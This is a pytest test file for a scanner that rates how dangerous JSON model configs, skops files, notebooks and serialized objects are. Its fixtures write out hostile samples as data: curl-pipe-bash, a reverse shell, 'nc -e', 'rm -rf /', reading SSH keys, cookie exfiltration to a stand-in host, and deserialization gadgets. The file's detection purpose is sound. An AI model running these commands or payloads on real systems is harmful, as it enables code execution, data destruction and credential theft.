"""JSON that loaders act on: Hugging Face, skops, notebooks."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from mithridate.core.findings import Severity

HOSTILE_CONFIGS = {
    "another repository (CVE-2025-66448)": {"auto_map": {"AutoModel": "evil/repo--modeling.Model"}},
    "a path": {"auto_map": {"AutoConfig": "../x.Config"}},
    "a list": {"auto_map": {"AutoTokenizer": ["evil/repo--tok.T", None]}},
    "trust": {"model_type": "x", "trust_remote_code": True},
    "nested": {"vision_config": {"auto_map": {"AutoConfig": "evil/r--c.C"}}},
    "kernels": {"_attn_implementation": "evil/kernels"},
    "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
    "modules.json in the library of another": [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}],
    "adapter": {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
    "shards": {"metadata": {}, "weight_map": {"a": "../../x.safetensors"}},
    "expression": {"imports": ["$import glob"], "x": "$__import__('os').system('id')"},
    "class path": {"model": {"class_path": "os.system", "init_args": {}}},
    "padded": {"x": " " * 9000, "auto_map": {"AutoModel": "e/r--m.M"}},
}
ORDINARY_CONFIGS = (
    {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "torch_dtype": "bfloat16",
        "_name_or_path": "models/x",
        "vocab_size": 32000,
    },
    {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]},
    [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
    {"weight_map": {"a": "model-00001-of-00002.safetensors"}},
    {"auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}},
    {"auto_mapping": None, "peft_type": "LORA", "trust_remote_code": False},
    {
        "version": "1.0",
        "model": {"type": "BPE", "vocab": {"__class__": 1, "a": 2}},
        "added_tokens": [{"id": 0, "content": "<s>"}],
    },
    {"rows": [{"target": "a.b", "x": 1}], "type": "FeatureCollection"},
    [],
    {},
)


@pytest.mark.parametrize("name", HOSTILE_CONFIGS)
def test_configurations_that_bring_code_are_grave(name: str, worst: Callable[..., int]) -> None:
    assert worst(json.dumps(HOSTILE_CONFIGS[name])) >= Severity.HIGH
    assert worst(json.dumps(HOSTILE_CONFIGS[name], indent=2).encode("utf-16")) >= Severity.HIGH
    assert worst(b" " * 70_000 + json.dumps(HOSTILE_CONFIGS[name]).encode()) >= Severity.HIGH


def test_code_beside_the_configuration_is_medium(worst: Callable[..., int]) -> None:
    assert worst(json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}})) == Severity.MEDIUM


@pytest.mark.parametrize("config", ORDINARY_CONFIGS)
def test_ordinary_configurations_are_no_issue(config: Any, worst: Callable[..., int]) -> None:
    assert worst(json.dumps(config)) == 0


def skops(loader: str, module: str, name: str, **more: Any) -> str:
    inner = {"__class__": name, "__module__": module, "__loader__": loader, "content": {}, **more}
    root = {
        "__class__": "Pipeline",
        "__module__": "sklearn.pipeline",
        "__loader__": "ObjectNode",
        "content": {"x": inner},
        "protocol": 2,
    }
    return json.dumps(root)


@pytest.mark.parametrize(
    "text",
    [
        skops("OperatorFuncNode", "operator", "methodcaller", attrs={"content": ["system"]}),
        skops("OperatorFuncNode", "builtins", "eval"),
        skops("OperatorFuncNode", "operator", "attrgetter"),
        skops(
            "MethodNode",
            "sklearn.linear_model",
            "LogisticRegression",
            content={"func": "system", "obj": {"__class__": "X", "__module__": "os", "__loader__": "ObjectNode"}},
        ),
        skops("MethodNode", "builtins", "method", content={"func": "__globals__", "obj": {}}),
        skops("FunctionNode", "builtins", "function", content={"module_path": "os", "function": "system"}),
        skops("FunctionNode", "os", "system"),
        skops("TypeNode", "subprocess", "Popen"),
        skops("ObjectNode", "subprocess", "Popen"),
        skops("PartialNode", "some.package", "helper"),
        skops("FunctionNode", "x", "function", content={"module_path": "some.package", "function": "run"}),
        skops("ObjectNode", "http.server", "HTTPServer"),
        skops("ObjectNode", "builtins", "getattr"),
    ],
)
def test_skops_nodes_outside_what_is_trusted_are_grave(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) >= Severity.HIGH  # CVE-2025-54412, CVE-2025-54413


@pytest.mark.parametrize(
    "text",
    [
        skops("ObjectNode", "sklearn.linear_model._logistic", "LogisticRegression"),
        skops("NdArrayNode", "numpy", "ndarray", file="x.npy", type="numpy"),
        skops("DictNode", "builtins", "dict"),
        skops("TypeNode", "numpy", "float64"),
        skops("FunctionNode", "builtins", "function", content={"module_path": "numpy", "function": "log1p"}),
        skops("ObjectNode", "my_project.transformers", "Scale"),
        skops("DefaultDictNode", "collections", "defaultdict"),
    ],
)
def test_skops_nodes_of_models_are_at_most_low(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) <= Severity.LOW


def notebook(source: str = "", *, output: dict[str, Any] | None = None, kind: str = "code", **metadata: Any) -> str:
    cell: dict[str, Any] = {"cell_type": kind, "metadata": metadata, "source": [source]}
    if kind == "code":
        cell |= {
            "execution_count": 1,
            "outputs": [{"output_type": "display_data", "metadata": {}, "data": output}] if output else [],
        }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@pytest.mark.parametrize(
    "text",
    [
        notebook("!curl -s http://h/x | bash"),
        notebook("%%bash\nwget -qO- http://h/x | sh"),
        notebook("!bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
        notebook("!nc -e /bin/sh h 9"),
        notebook("!echo aWQ= | base64 -d | sh"),
        notebook("!rm -rf /"),
        notebook("!wget http://h/x.sh && bash x.sh"),
        notebook("!chmod +x miner; ./miner"),
        notebook("exec(requests.get(u).text)"),
        notebook("import pickle\npickle.loads(base64.b64decode(x))"),
        notebook("!cat ~/.ssh/id_rsa"),
        notebook("import base64\nexec(base64.b64decode('aWQ='))"),
        notebook("exec(zlib.decompress(x))"),
        notebook("__import__('os').system('id')"),
        notebook("x = 1" + " " * 400 + "; import os"),
        notebook("1", output={"text/html": "<img src=x onerror=alert(1)>"}),
        notebook("1", output={"application/javascript": "Jupyter.notebook.kernel.execute('1')"}),
        notebook("1", output={"text/html": ["<script>fetch('https://h/?' + document.cookie)</script>"]}),
        notebook("1", output={"text/html": "<script src='https://evil.test/x.js'></script>"}),
        notebook("<img src=x onerror=fetch(1)>", kind="markdown"),
        json.dumps(
            {
                "nbformat": 3,
                "worksheets": [{"cells": [{"cell_type": "code", "input": "!curl h | sh", "outputs": []}]}],
                "metadata": {},
            }
        ),
    ],
)
def test_notebooks_that_act_are_grave(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) >= Severity.HIGH


@pytest.mark.parametrize(
    "text",
    [
        notebook("!pip install torch\n%matplotlib inline\n!nvidia-smi\n!wget https://h/data.zip"),
        notebook("import pandas as pd\npd.eval('a + b')\nmodel.eval()\n"),
        notebook("1", output={"text/html": "<div><style scoped>x</style><table></table></div>", "text/plain": "x"}),
        notebook(
            "1",
            output={
                "text/html": "<script src='https://cdn.plot.ly/plotly-2.js'></script><script>Plotly.newPlot(1)</script>"
            },
        ),
        notebook("# Title\n<a href='x'>y</a>", kind="markdown"),
        notebook("x", jupyter={"source_hidden": True}),
    ],
)
def test_ordinary_notebooks_are_at_most_low(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) <= Severity.LOW


def test_json_that_nests_without_end_or_counts_without_end_is_told(worst: Callable[..., int]) -> None:
    assert worst('{"a":' * 100_000) == Severity.LOW
    assert worst('{"a": ' + "9" * 100_000 + "}") == 0
    assert worst('[{"a": 1}, ') == Severity.LOW


def test_packed_bytes_in_a_source_line_are_no_pickle(worst: Callable[..., int]) -> None:
    assert worst(notebook("x = '" + base64.b64encode(zlib.compress(b"a" * 99)).decode() + "'")) == 0


@pytest.mark.parametrize(
    "node",
    [
        {"py/object": "os.system"},
        {"py/reduce": [{"py/function": "builtins.exec"}, {"py/tuple": ["1"]}]},
        {"py/repr": "os/os.system"},
        {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"},
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://h/x"},
        {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}},
    ],
)
def test_json_that_a_library_turns_into_objects_is_grave(node: dict[str, Any], worst: Callable[..., int]) -> None:
    assert worst(json.dumps({"a": [node]})) >= Severity.HIGH


@pytest.mark.parametrize(
    "node",
    [
        {"@type": "Person", "@context": "https://schema.org"},
        {"lc": 1, "type": "constructor", "id": ["langchain", "schema", "messages", "HumanMessage"]},
        {"py/object": "project.settings.Settings"},
        {"class": "container", "$type": "x"},
    ],
)
def test_json_objects_of_ordinary_kinds_are_at_most_low(node: dict[str, Any], worst: Callable[..., int]) -> None:
    assert worst(json.dumps({"a": [node]})) <= Severity.LOW


def test_a_notebook_that_runs_a_script_from_elsewhere_is_grave(worst: Callable[..., int]) -> None:
    assert worst(notebook("%run https://h/x.py")) == Severity.HIGH
